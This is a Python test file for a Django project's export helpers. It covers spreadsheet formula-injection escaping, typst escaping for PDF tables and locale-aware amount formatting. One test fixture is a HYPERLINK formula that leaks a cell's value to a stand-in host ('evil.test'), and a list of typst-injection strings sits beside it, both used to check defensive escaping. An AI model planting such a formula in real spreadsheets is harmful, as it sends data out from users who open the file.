"""Shared exports: formula-safe CSV/XLSX cells, typst escaping and tables, locale-aware amounts."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
import typst
from django.utils import translation
from openpyxl import load_workbook
from pypdf import PdfReader

from creativepoles.core.exports import escape_typst, safe_cell, typst_table, xlsx_bytes
from creativepoles.core.formatting import format_amount, format_quantity

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
NASTY = [
    "#panic(\"boom\")", "*bold* _it_ `raw` $x^2$ $", "<label> @ref [open ]close", "// comment /* block",
    "= heading", "- list", "+ enum", "/ term: x", "1. numbered", "back\\slash \\u{41} \\", "'single' \"double\"",
    "http://example.com/a_b", "--- -- ... ~ &", "#{ let x = 1 }", "]) #panic() [", "}{)(", "\\", "Klaipėda Łódź Tõnu",
]


def pdf_text(data: bytes) -> str:
    """All text of a PDF, pages joined."""
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def compile_pdf(source: str) -> bytes:
    """A typst source compiled offline, as the exports do."""
    return bytes(typst.compile(source.encode(), format="pdf", ignore_system_fonts=True))


def test_it_protects_cells_against_formula_injection() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK):
        assert safe_cell(text) == "'" + text
    for text in ("plain", "", "1-2", " =1", "Klaipėda"):
        assert safe_cell(text) == text
    # Numbers stay numbers, negative ones included.
    assert safe_cell(Decimal("-5.00")) == Decimal("-5.00") and isinstance(safe_cell(Decimal("-5.00")), Decimal)
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    assert safe_cell(dt.date(2024, 1, 1)) == dt.date(2024, 1, 1)


def test_it_keeps_negative_numbers_numeric_and_sheet_names_valid() -> None:
    data = xlsx_bytes([("a/b:c*?[d]", ["x"], [[Decimal("-12.30")], ["-12.30"]]), ("a b c d", ["y"], [])])
    workbook = load_workbook(io.BytesIO(data))
    first = workbook.worksheets[0]
    assert first["A2"].value == pytest.approx(-12.3) and first["A3"].value == "'-12.30"
    assert len(workbook.sheetnames) == 2 and len(set(n.lower() for n in workbook.sheetnames)) == 2


@pytest.mark.parametrize("text", NASTY)
def test_it_escapes_any_text_for_typst(text: str) -> None:
    source = '#set page(paper: "a4")\n#table(columns: 2, [' + escape_typst(text) + "], [end])\n"
    assert pdf_text(compile_pdf(source)).split() == \
        text.split() + ["end"]


def test_it_keeps_line_breaks_and_drops_control_characters_in_typst() -> None:
    source = "#block[" + escape_typst("first\r\nsecond\x00\x07third\tfourth") + "]"
    text = pdf_text(compile_pdf(source))
    assert text.splitlines() == ["first", "second third fourth"]


def test_it_builds_typst_tables_from_hostile_cells() -> None:
    source = '#set page(paper: "a4")\n' + typst_table(["Name", "Amount"], [[NASTY[0], "1.00"], [NASTY[10], None]],
                                                     "(1fr, auto)", 1)
    assert "align: (left, right,)" in source
    text = pdf_text(compile_pdf(source))
    assert "#panic(\"boom\")" in text and "'single' \"double\"" in text and "Amount" in text


def test_it_formats_amounts_and_figures_in_the_active_language() -> None:
    with translation.override("en"):
        assert format_amount(Decimal("1107105"), "LTL") == "1,107,105.00\u00a0LTL"
        assert format_amount("-0.5") == "-0.50"
        assert (format_quantity(Decimal("750.00")), format_quantity("12.50"), format_quantity("12500")) == (
            "750", "12.5", "12,500")
    with translation.override("lt"):
        lithuanian = format_amount("1107105.00", "EUR")
        assert lithuanian == "1.107.105,00\u00a0EUR"
        assert format_quantity("12.50") == "12,5"
    assert format_amount(None) == format_amount("") == format_amount(0)
    with pytest.raises(ValueError):
        format_amount("twelve")
